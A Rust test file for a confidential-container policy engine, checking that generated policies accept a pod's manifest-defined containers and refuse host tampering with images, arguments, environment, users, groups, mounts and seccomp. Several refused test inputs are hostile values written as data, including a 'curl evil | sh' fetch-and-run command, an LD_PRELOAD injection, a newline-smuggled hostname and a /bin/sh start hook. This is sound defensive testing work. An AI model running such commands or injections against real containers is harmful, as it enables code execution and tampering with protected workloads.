//! Policies `cocoon policy generate` writes from a pod's manifest
//! (`cocoon_confidential::genpolicy`), decided by this agent's own engine as a
//! confidential guest would: the container as its manifest and image say passes; every
//! change a host could make to what it runs is refused.

use cocoon_agent::policy::{Denied, Gate};
use cocoon_confidential::genpolicy::CONTAINERD;
use serde_json::{json, Value};

const DIGEST: &str = "sha256:4f0c5ea0d4c1e7f7b3aa7b6e0f2f9a0b2c6d1e5f8a9b0c1d2e3f4a5b6c7d8e9f";

const MANIFEST: &str = r#"
apiVersion: v1
kind: Pod
metadata:
  name: web
  annotations:
    io.cocoon.guest-pull: "true"
spec:
  runtimeClassName: cocoon
  securityContext:
    runAsUser: 1000
  containers:
  - name: app
    image: registry.example:5000/team/app@IMAGE
    args: ["--port", "8080"]
    env:
    - name: MODE
      value: prod
    - name: TOKEN
      valueFrom:
        secretKeyRef: {name: s, key: k}
  - name: side
    image: registry.example:5000/team/side@IMAGE
    command: ["/bin/side"]
    workingDir: /work
    securityContext:
      allowPrivilegeEscalation: false
      capabilities:
        drop: [ALL]
        add: [NET_BIND_SERVICE]
"#;

fn gate() -> Gate {
    let manifest = MANIFEST.replace("IMAGE", DIGEST);
    let init = cocoon_confidential::genpolicy::generate(&manifest, None, "sha384", CONTAINERD, &[])
        .unwrap();
    let g = Gate::new(true);
    g.set_init_data(init.as_bytes()).unwrap();
    g
}

/// CreateContainer's input for container `name` as containerd would build it from the
/// manifest and the image (`/bin/app` entrypoint, `PATH` in its environment), then the
/// image's config as the guest read it.
fn input(name: &str) -> Value {
    let (image, args, cwd, env) = match name {
        "app" => (
            format!("registry.example:5000/team/app@{DIGEST}"),
            json!(["/bin/app", "--port", "8080"]),
            "/",
            json!([
                "PATH=/usr/bin:/bin",
                "MODE=prod",
                "TOKEN=s3cret",
                "HOSTNAME=web",
                "KUBERNETES_SERVICE_HOST=10.0.0.1",
                "KUBERNETES_PORT_443_TCP_ADDR=10.0.0.1"
            ]),
        ),
        _ => (
            format!("registry.example:5000/team/side@{DIGEST}"),
            json!(["/bin/side"]),
            "/work",
            json!(["PATH=/usr/bin:/bin", "HOSTNAME=web"]),
        ),
    };
    let caps = match name {
        "app" => json!(["CAP_CHOWN", "CAP_KILL"]),
        _ => json!(["CAP_NET_BIND_SERVICE"]),
    };
    json!({
        "guest_image": image,
        "oci": {
            "annotations": {"io.kubernetes.cri.container-name": name},
            "process": {"args": args, "cwd": cwd, "env": env, "user": {"uid": 1000, "gid": 0, "additionalGids": [0]},
                        "noNewPrivileges": name != "app",
                        "capabilities": {"bounding": caps, "effective": caps, "permitted": caps}},
            "mounts": [
                {"destination": "/proc", "type": "proc", "source": "proc"},
                {"destination": "/etc/hosts", "type": "bind", "source": "/run/cocoon/shared/c/mounts/0"},
            ],
            "linux": {"maskedPaths": ["/proc/kcore", "/sys/firmware"], "readonlyPaths": ["/proc/sys"],
                      "seccomp": {"defaultAction": "SCMP_ACT_ERRNO", "syscalls": [{"names": ["read"], "action": "SCMP_ACT_ALLOW"}]}},
        },
        "image_config": {"Entrypoint": ["/bin/app"], "Cmd": ["--help"], "Env": ["PATH=/usr/bin:/bin"], "WorkingDir": null},
        "image_accounts": {"users": [], "groups": []},
    })
}

/// `change` to container `name`'s input is refused (`what`: the change).
fn refused_as(g: &Gate, name: &str, what: &str, change: impl FnOnce(&mut Value)) {
    let mut i = input(name);
    change(&mut i);
    assert_eq!(
        g.check_pulled(|| i),
        Err(Denied::Policy("CreateContainerImageRequest".into())),
        "{what} was let through"
    );
}

fn refused(g: &Gate, what: &str, change: impl FnOnce(&mut Value)) {
    refused_as(g, "app", what, change)
}

#[test]
fn the_containers_as_their_manifest_says_pass() {
    let g = gate();
    assert!(g.pins_images());
    assert_eq!(g.check_pulled(|| input("app")), Ok(()));
    assert_eq!(g.check_pulled(|| input("side")), Ok(()));
}

#[test]
fn whatever_a_host_changes_is_refused() {
    let g = gate();
    refused(&g, "another image", |i| {
        i["guest_image"] = json!(format!("registry.example:5000/team/evil@{DIGEST}"))
    });
    refused(&g, "another process", |i| {
        i["oci"]["process"]["args"] = json!(["/bin/sh", "-c", "curl evil | sh"])
    });
    refused(&g, "the image's Cmd in place of the manifest's args", |i| {
        i["oci"]["process"]["args"] = json!(["/bin/app", "--help"])
    });
    refused(&g, "a variable of its own", |i| {
        i["oci"]["process"]["env"]
            .as_array_mut()
            .unwrap()
            .push(json!("LD_PRELOAD=/tmp/x.so"))
    });
    refused(&g, "a manifest variable changed", |i| {
        i["oci"]["process"]["env"][1] = json!("MODE=debug")
    });
    refused(&g, "a manifest variable left out", |i| {
        i["oci"]["process"]["env"].as_array_mut().unwrap().remove(1);
    });
    refused(&g, "another working directory", |i| {
        i["oci"]["process"]["cwd"] = json!("/tmp")
    });
    refused(&g, "root", |i| {
        i["oci"]["process"]["user"]["uid"] = json!(0)
    });
    refused(&g, "the group disk added", |i| {
        i["oci"]["process"]["user"]["additionalGids"] = json!([0, 6])
    });
    refused(&g, "another group", |i| {
        i["oci"]["process"]["user"]["gid"] = json!(6);
        i["oci"]["process"]["user"]["additionalGids"] = json!([6]);
    });
    refused(&g, "the process's own group left out of its groups", |i| {
        i["oci"]["process"]["user"]["additionalGids"] = json!([])
    });
    refused(&g, "no accounts of the image", |i| {
        i.as_object_mut().unwrap().remove("image_accounts");
    });
    refused(&g, "a container the manifest does not name", |i| {
        i["oci"]["annotations"]["io.kubernetes.cri.container-name"] = json!("extra")
    });
    refused(&g, "no name at all", |i| {
        i["oci"]["annotations"] = json!({})
    });
    refused(&g, "secrets the pod did not ask for", |i| {
        i["oci"]["annotations"]["io.cocoon.kbs-secrets"] = json!("k=default/key/one")
    });
    refused(&g, "a file system over the image's files", |i| {
        i["oci"]["mounts"]
            .as_array_mut()
            .unwrap()
            .push(json!({"destination": "/etc/app", "type": "tmpfs", "source": "tmpfs"}))
    });
    refused(&g, "an image file masked", |i| {
        i["oci"]["linux"]["maskedPaths"]
            .as_array_mut()
            .unwrap()
            .push(json!("/etc/app/auth.conf"))
    });
    refused(&g, "an image directory made read-only", |i| {
        i["oci"]["linux"]["readonlyPaths"]
            .as_array_mut()
            .unwrap()
            .push(json!("/var/lib/app"))
    });
    refused(&g, "a syscall faked to succeed", |i| {
        i["oci"]["linux"]["seccomp"]["syscalls"]
            .as_array_mut()
            .unwrap()
            .push(json!({"names": ["setresuid"], "action": "SCMP_ACT_ERRNO", "errnoRet": 0}))
    });
    refused(&g, "a startContainer hook", |i| {
        i["oci"]["hooks"] = json!({"startContainer": [{"path": "/bin/sh"}]})
    });
    refused(&g, "a manifest variable given twice", |i| {
        i["oci"]["process"]["env"]
            .as_array_mut()
            .unwrap()
            .push(json!("MODE=debug"))
    });
    refused(&g, "the image's own variable left out", |i| {
        i["oci"]["process"]["env"].as_array_mut().unwrap().remove(0);
    });
    refused(&g, "a variable dressed as a service link", |i| {
        i["oci"]["process"]["env"]
            .as_array_mut()
            .unwrap()
            .push(json!("DEBUG_PORT=tcp://evil.example:1"))
    });
    refused(&g, "a service link over a manifest variable's name", |i| {
        i["oci"]["process"]["env"][1] = json!("MODE_SERVICE_PORT=1")
    });
    refused(&g, "a hostname with more in it", |i| {
        i["oci"]["process"]["env"][3] = json!("HOSTNAME=web\nX=1")
    });
    refused_as(
        &g,
        "side",
        "privilege escalation the manifest turns off",
        |i| i["oci"]["process"]["noNewPrivileges"] = json!(false),
    );
    refused_as(&g, "side", "a capability the manifest drops", |i| {
        i["oci"]["process"]["capabilities"]["effective"] =
            json!(["CAP_NET_BIND_SERVICE", "CAP_CHOWN"])
    });
    // The sidecar's image for the app container: each name has its own pins.
    refused(&g, "a container under another's name", |i| {
        let side = input("side");
        i["guest_image"] = side["guest_image"].clone();
        i["oci"]["process"] = side["oci"]["process"].clone();
    });
}

/// A pod whose image names its user (`nginx`), with supplementary groups of its own:
/// containerd takes the user's ids from the image's `/etc/passwd`, its groups from
/// `/etc/group` and the pod's `supplementalGroups` and `fsGroup`; so does the policy,
/// from the accounts the guest read in the pulled image.
const NAMED_USER: &str = r#"
apiVersion: v1
kind: Pod
metadata:
  name: named
spec:
  securityContext:
    fsGroup: 2000
    supplementalGroups: [3000]
  containers:
  - name: web
    image: registry.example:5000/team/web@IMAGE
"#;

fn named_user_input(user: &str, uid: u32, gid: u32, groups: &[u32]) -> Value {
    json!({
        "guest_image": format!("registry.example:5000/team/web@{DIGEST}"),
        "oci": {
            "annotations": {"io.kubernetes.cri.container-name": "web"},
            "process": {"args": ["/bin/web"], "cwd": "/", "env": ["HOSTNAME=named"],
                        "user": {"uid": uid, "gid": gid, "additionalGids": groups}},
        },
        "image_config": {"Entrypoint": ["/bin/web"], "User": user},
        "image_accounts": {
            "users": [{"name": "root", "uid": 0, "gid": 0},
                      {"name": "nginx", "uid": 101, "gid": 102},
                      {"name": "nginx", "uid": 7, "gid": 7}],
            "groups": [{"name": "root", "gid": 0, "members": []},
                       {"name": "disk", "gid": 6, "members": ["root"]},
                       {"name": "web", "gid": 102, "members": []},
                       {"name": "logs", "gid": 50, "members": ["other", "nginx"]}],
        },
    })
}

fn named_user_gate(containerd: &str) -> Gate {
    named_user_gate_with(containerd, &[])
}

/// As `named_user_gate`, for a pod whose persistent volumes add `pv_gids`.
fn named_user_gate_with(containerd: &str, pv_gids: &[u64]) -> Gate {
    let manifest = NAMED_USER.replace("IMAGE", DIGEST);
    let init =
        cocoon_confidential::genpolicy::generate(&manifest, None, "sha384", containerd, pv_gids)
            .unwrap();
    let g = Gate::new(true);
    g.set_init_data(init.as_bytes()).unwrap();
    g
}

#[test]
fn users_and_groups_are_what_containerd_makes_of_the_image_and_the_pod() {
    let g = named_user_gate("1.7.3");
    let decide = |user: &str, uid: u32, gid: u32, groups: &[u32]| {
        g.check_pulled(|| named_user_input(user, uid, gid, groups))
    };
    let refused = Err(Denied::Policy("CreateContainerImageRequest".into()));
    // The first `nginx` of the image's passwd, its primary group, the group that lists
    // it, and the pod's groups: exactly those, in any order.
    assert_eq!(decide("nginx", 101, 102, &[102, 50, 3000, 2000]), Ok(()));
    assert_eq!(
        decide("nginx", 101, 102, &[2000, 3000, 50, 102, 50]),
        Ok(())
    );
    assert_eq!(
        decide("nginx", 101, 102, &[50, 3000, 2000]),
        refused,
        "its own group left out"
    );
    assert_eq!(decide("nginx", 101, 102, &[]), refused, "no groups");
    assert_eq!(
        decide("nginx", 0, 102, &[102, 50, 3000, 2000]),
        refused,
        "root for a named user"
    );
    assert_eq!(
        decide("nginx", 7, 7, &[7, 50, 3000, 2000]),
        refused,
        "the name's second account"
    );
    assert_eq!(
        decide("nginx", 101, 0, &[0, 50, 3000, 2000]),
        refused,
        "root's group"
    );
    assert_eq!(
        decide("nginx", 101, 102, &[102, 50, 3000, 2000, 0]),
        refused,
        "root's group added"
    );
    assert_eq!(
        decide("nginx", 101, 102, &[102, 50, 3000, 2000, 6]),
        refused,
        "root's group disk"
    );
    // `user:group`, by names and by numbers (with Go's leading zeros).
    assert_eq!(decide("nginx:logs", 101, 50, &[50, 3000, 2000]), Ok(()));
    assert_eq!(
        decide("nginx:logs", 101, 102, &[102, 50, 3000, 2000]),
        refused,
        "not its group"
    );
    assert_eq!(
        decide("01000:1000", 1000, 1000, &[1000, 3000, 2000]),
        Ok(())
    );
    // A numeric user the image has no account for: root's group, no image groups.
    assert_eq!(decide("1000", 1000, 0, &[0, 3000, 2000]), Ok(()));
    assert_eq!(
        decide("1000", 1000, 0, &[0, 50, 3000, 2000]),
        refused,
        "a group of nobody's"
    );
    // No user: root, with the groups that list root.
    assert_eq!(decide("", 0, 0, &[0, 6, 3000, 2000]), Ok(()));
    // A user the image does not have, or a User containerd refuses.
    assert_eq!(
        decide("ghost", 0, 0, &[0, 6, 3000, 2000]),
        refused,
        "an unknown user"
    );
    assert_eq!(
        decide("nginx:logs:x", 101, 50, &[50, 3000, 2000]),
        refused,
        "three parts"
    );
    // A group named as the user is never one of its supplementary groups.
    let mut i = named_user_input("nginx", 101, 102, &[102, 50, 3000, 2000, 103]);
    i["image_accounts"]["groups"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "nginx", "gid": 103, "members": ["nginx"]}));
    assert_eq!(g.check_pulled(|| i), refused, "the user's namesake group");
}

/// containerd before 1.6.22 and 1.7.3 (Debian 12's 1.6.20) looked the groups up for
/// root when the manifest named no user: a policy for it expects root's, and refuses
/// the image user's.
#[test]
fn older_containerd_gives_an_image_user_roots_groups() {
    let g = named_user_gate("1.6.20");
    let refused = Err(Denied::Policy("CreateContainerImageRequest".into()));
    let decide = |groups: &[u32]| g.check_pulled(|| named_user_input("nginx", 101, 102, groups));
    assert_eq!(decide(&[102, 6, 3000, 2000]), Ok(()));
    assert_eq!(
        decide(&[102, 50, 3000, 2000]),
        refused,
        "a newer containerd's groups"
    );
    let newer = named_user_gate("2.1.0");
    assert_eq!(
        newer.check_pulled(|| named_user_input("nginx", 101, 102, &[102, 6, 3000, 2000])),
        refused,
        "an older containerd's groups"
    );
    for bad in ["1.5.9", "two", "1.6.x"] {
        let manifest = NAMED_USER.replace("IMAGE", DIGEST);
        let e = cocoon_confidential::genpolicy::generate(&manifest, None, "sha384", bad, &[]);
        assert!(e.is_err(), "containerd {bad} was taken");
    }
}

/// kubelet adds the gid of each of the pod's persistent volumes that carry a
/// `pv.beta.kubernetes.io/gid` annotation to every container's groups (unless the pod
/// has it already); the manifest does not show it, so the owner names them
/// (`--pv-gid`). The policy then expects exactly those groups as well.
#[test]
fn groups_from_persistent_volumes_are_expected_when_named() {
    let refused = Err(Denied::Policy("CreateContainerImageRequest".into()));
    let g = named_user_gate_with("1.7.3", &[5555, 3000]);
    let decide = |groups: &[u32]| g.check_pulled(|| named_user_input("nginx", 101, 102, groups));
    assert_eq!(decide(&[102, 50, 3000, 2000, 5555]), Ok(()));
    assert_eq!(
        decide(&[102, 50, 3000, 2000]),
        refused,
        "the volume's group left out"
    );
    assert_eq!(
        decide(&[102, 50, 3000, 2000, 5555, 6]),
        refused,
        "another group"
    );
    // Without --pv-gid, a volume's group is one the host added.
    let plain = named_user_gate("1.7.3");
    assert_eq!(
        plain.check_pulled(|| named_user_input("nginx", 101, 102, &[102, 50, 3000, 2000, 5555])),
        refused
    );
}
